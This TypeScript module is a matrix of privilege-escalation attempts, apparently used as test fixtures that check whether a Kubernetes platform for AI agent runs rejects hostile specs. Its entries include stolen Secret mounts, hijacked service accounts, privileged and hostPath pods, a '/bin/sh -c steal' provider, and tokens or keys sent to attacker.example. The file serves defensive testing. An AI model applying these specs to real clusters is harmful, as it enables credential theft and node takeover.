/** What a permission can reach, by column of the matrix. */
export type Reach = 'Secrets' | 'accounts' | 'nodes'

/** One concrete attempt to escalate with write access to objects of one kind. */
export interface Attack {
  readonly kind: string
  readonly reach: Reach
  /** What the attack reaches if it succeeds, for the matrix. */
  readonly gives: string
  /** Merged over the spec of an honest object. */
  readonly spec: object
  /** Evidence of success. If omitted, the attack succeeds if the platform accepts the reference and acts on it. */
  readonly evidence?: Evidence
}

/**
 * Whether the pod template of a resulting Job shows the attack. `victim`: the Job of a run that another user creates
 * afterwards.
 */
interface Evidence {
  readonly of: 'run' | 'victim'
  readonly shows: (template: string) => boolean
}

function run(shows: (template: string) => boolean): Evidence {
  return { of: 'run', shows }
}

function victim(shows: (template: string) => boolean): Evidence {
  return { of: 'victim', shows }
}

function job(config: object) {
  return { runtime: { type: 'job', config } }
}

const stolen = { name: 'stolen' }
const recipient = 'age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p'
const https = 'https://attacker.example/repository.git'

function namesStolen(template: string): boolean {
  return template.includes('"stolen"')
}

function account(name: string) {
  return (template: string) => template.includes(`"serviceAccountName":"${name}"`)
}

export const attacks: readonly Attack[] = [
  ...[
    { spec: { secrets: ['stolen'] }, gives: 'of the namespace, as variables of the run' },
    {
      spec: {
        workload: {
          volumes: [{ type: 'secret', name: 'v', mountPath: '/v', secretName: 'stolen' }],
        },
      },
      gives: 'of the namespace, as files of the run',
    },
    {
      spec: { systemPromptRef: { kind: 'Secret', name: 'stolen', key: 'token' } },
      gives: 'of the namespace, as the prompt of the run',
    },
  ].map(
    ({ spec, gives }): Attack => ({
      ...{ kind: 'AgentRun', reach: 'Secrets', gives, evidence: run(namesStolen) },
      spec: { ...job({}), ...spec },
    }),
  ),
  {
    ...{ kind: 'AgentRun', reach: 'accounts', gives: "the controllers' account" },
    spec: job({ serviceAccount: 'agents-controllers', automountServiceAccountToken: true }),
    evidence: run(account('agents-controllers')),
  },
  {
    ...{ kind: 'AgentRun', reach: 'accounts', gives: 'any account of the namespace' },
    spec: job({ serviceAccount: 'deployer' }),
    evidence: run(account('deployer')),
  },
  {
    ...{ kind: 'AgentRun', reach: 'accounts', gives: 'a token of the account default' },
    spec: job({ automountServiceAccountToken: true }),
    evidence: run((template) => template.includes('"automountServiceAccountToken":true')),
  },
  {
    ...{ kind: 'AgentRun', reach: 'accounts', gives: "a Secret with the controllers' token" },
    spec: { ...job({}), secrets: ['controllers-token'] },
    evidence: run((template) => template.includes('controllers-token')),
  },
  ...[
    {
      gives: 'eviction of pods of the node',
      config: { priorityClassName: 'system-node-critical' },
    },
    { gives: 'every node', config: { tolerations: [{ operator: 'Exists' }] } },
    { gives: 'the network of the node', config: { hostNetwork: true } },
    { gives: 'root', config: { podSecurityContext: { runAsNonRoot: null, runAsUser: 0 } } },
    { gives: 'no seccomp profile', config: { podSecurityContext: { seccompProfile: null } } },
    { gives: 'a privileged container', config: { securityContext: { privileged: true } } },
  ].map(
    ({ gives, config }): Attack => ({
      ...{ kind: 'AgentRun', reach: 'nodes', gives, spec: job(config) },
      evidence: run(leavesRestricted),
    }),
  ),
  {
    ...{ kind: 'AgentRun', reach: 'nodes', gives: 'files of the node' },
    spec: {
      ...job({}),
      workload: {
        volumes: [{ type: 'hostPath', name: 'v', mountPath: '/v', hostPath: { path: '/' } }],
      },
    },
    evidence: run((template) => template.includes('"hostPath"')),
  },
  {
    ...{ kind: 'Agent', reach: 'Secrets', gives: 'of the namespace, in runs of the Agent' },
    spec: { env: [{ name: 'X', valueFrom: { secretKeyRef: { name: 'stolen', key: 'token' } } }] },
    evidence: victim(namesStolen),
  },
  {
    ...{ kind: 'Agent', reach: 'Secrets', gives: 'of the namespace, as the prompt of runs' },
    spec: { defaults: { systemPromptRef: { kind: 'Secret', ...stolen, key: 'token' } } },
    evidence: victim(namesStolen),
  },
  {
    ...{ kind: 'Agent', reach: 'accounts', gives: 'any account, in runs of the Agent' },
    spec: {
      security: { allowedServiceAccounts: ['*'] },
      defaults: { serviceAccount: 'agents-controllers' },
    },
    evidence: victim(account('agents-controllers')),
  },
  {
    ...{ kind: 'AgentProvider', reach: 'Secrets' },
    gives: 'those that runs of others with it name: it chooses their program',
    spec: { binary: '/bin/sh', argsTemplate: ['-c', 'steal'] },
    evidence: victim((template) => template.includes('steal') && template.includes('victims')),
  },
  {
    ...{ kind: 'AgentProvider', reach: 'Secrets', gives: 'of the namespace, by its variables' },
    spec: { envTemplate: { X: '{{ secrets.stolen.token }}' } },
    evidence: victim(namesStolen),
  },
  {
    ...{ kind: 'VersionControlProvider', reach: 'Secrets', gives: 'a token, sent to any API' },
    spec: {
      provider: 'github',
      apiBaseUrl: 'https://attacker.example/api',
      auth: { method: 'token', token: { secretRef: { ...stolen, key: 'token' } } },
    },
  },
  {
    ...{ kind: 'VersionControlProvider', reach: 'Secrets', gives: 'the signature of an app' },
    spec: {
      provider: 'github',
      apiBaseUrl: 'https://attacker.example/api',
      auth: {
        method: 'app',
        app: { appId: 1, installationId: 2, privateKeySecretRef: { ...stolen, key: 'token' } },
      },
    },
  },
  {
    ...{ kind: 'Memory', reach: 'Secrets', gives: 'a connection, for runs of the Memory' },
    spec: { type: 'postgres', connection: { secretRef: { ...stolen, key: 'token' } } },
  },
  {
    ...{ kind: 'ImplementationSource', reach: 'Secrets', gives: 'deliveries signed with it' },
    spec: { auth: { secretRef: { ...stolen, key: 'token' } } },
  },
  ...[
    { gives: 'a password, sent to any URL', spec: { url: https, secretRef: stolen } },
    { gives: 'a signing key', spec: { url: https, commit: { signing: { secretRef: stolen } } } },
  ].map(
    ({ gives, spec }): Attack => ({
      ...{ kind: 'GitProvider', reach: 'Secrets', gives },
      spec: { allowedBranches: ['main'], secretRef: null, knownHostsRef: null, ...spec },
    }),
  ),
  {
    ...{ kind: 'GitTarget', reach: 'Secrets', gives: 'an age key' },
    spec: { encryption: { provider: 'sops', recipients: null, secretRef: stolen } },
  },
  {
    ...{ kind: 'GitTarget', reach: 'Secrets', gives: 'mirrored Secrets, for any recipient' },
    spec: { encryption: { provider: 'sops', secretRef: null, recipients: [recipient] } },
  },
  {
    ...{ kind: 'WatchRule', reach: 'Secrets', gives: 'of the namespace, mirrored' },
    spec: { targetRef: { name: 'honest' }, rules: [{ resources: ['secrets'] }] },
  },
  {
    ...{ kind: 'ClusterWatchRule', reach: 'Secrets', gives: 'of every namespace, mirrored' },
    spec: {
      targetRef: { namespace: 'team', name: 'honest' },
      rules: [{ scope: 'Namespaced', resources: ['secrets'] }],
    },
  },
]

/** Whether a pod violates the restricted standard, or gets priority over other pods or access to reserved nodes. */
function leavesRestricted(text: string): boolean {
  const spec = JSON.parse(text) as PodLike
  const { securityContext: pod = {}, containers = [], initContainers = [] } = spec
  const all = [...containers, ...initContainers]
  const isRestricted = all.every(({ securityContext: own = {} }) => {
    const nonRoot = own.runAsNonRoot ?? pod.runAsNonRoot
    const user = own.runAsUser ?? pod.runAsUser
    const profile = own.seccompProfile ?? pod.seccompProfile
    const isConfined = ['RuntimeDefault', 'Localhost'].includes(profile?.type ?? '')
    return nonRoot === true && user !== 0 && isConfined && own.privileged !== true
  })
  const { hostNetwork, hostPID, priorityClassName, tolerations = [] } = spec
  const isHost = hostNetwork === true || hostPID === true
  return !isRestricted || isHost || priorityClassName !== undefined || tolerations.length > 0
}

interface SecurityContextLike {
  readonly runAsNonRoot?: boolean | null
  readonly runAsUser?: number | null
  readonly privileged?: boolean
  readonly seccompProfile?: { readonly type?: string } | null
}

interface PodLike {
  readonly securityContext?: SecurityContextLike
  readonly containers?: readonly { readonly securityContext?: SecurityContextLike }[]
  readonly initContainers?: readonly { readonly securityContext?: SecurityContextLike }[]
  readonly hostNetwork?: boolean
  readonly hostPID?: boolean
  readonly priorityClassName?: string
  readonly tolerations?: readonly unknown[]
}
